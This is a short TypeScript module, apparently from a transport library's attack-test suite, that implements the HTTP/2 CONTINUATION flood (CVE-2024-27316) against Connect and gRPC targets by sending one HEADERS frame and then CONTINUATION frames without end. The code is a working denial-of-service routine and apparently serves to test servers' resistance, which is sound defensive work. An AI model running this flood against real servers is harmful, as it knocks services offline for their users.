import { frame, hpack, types } from "../../packages/transport-connect/src/raw-http2.fixture.ts";
import type { Attack } from "../attack.ts";
import { flood } from "../flood.ts";
import { callTo } from "../requests.ts";

const each = 100;
const more = Buffer.concat(
  Array.from({ length: each }, (_, i) => frame(types.continuation, 0, 1, hpack([[`x-${i}`, "y"]]))),
);

/** Headers that go on in CONTINUATION for ever. Source: CVE-2024-27316. */
export const continuation: Attack = {
  name: "continuation",
  what: "headers that go on in CONTINUATION frames for ever (CVE-2024-27316)",
  transports: ["connect", "grpc"],
  run: (target) =>
    flood(target, {
      unit: "CONTINUATION frames",
      each,
      first: frame(types.headers, 0, 1, hpack(callTo("GetUser"))),
      next: () => more,
    }),
};
